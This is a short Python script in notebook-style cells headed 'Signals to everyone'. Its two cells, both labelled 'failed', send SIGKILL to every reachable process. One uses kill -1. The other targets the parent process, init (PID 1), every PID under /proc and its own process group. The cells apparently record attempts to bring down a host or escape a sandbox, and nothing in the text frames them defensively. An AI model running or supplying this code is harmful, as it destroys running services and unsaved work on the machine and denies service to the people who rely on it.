# Signals to everyone.

# %% 1.1 failed: kill -1
import os
import signal

os.kill(-1, signal.SIGKILL)

# %% 1.2 failed: its parents, and every process that it sees
import os
import signal

for pid in [os.getppid(), 1, *map(int, filter(str.isdigit, os.listdir("/proc")))]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.killpg(0, signal.SIGKILL)
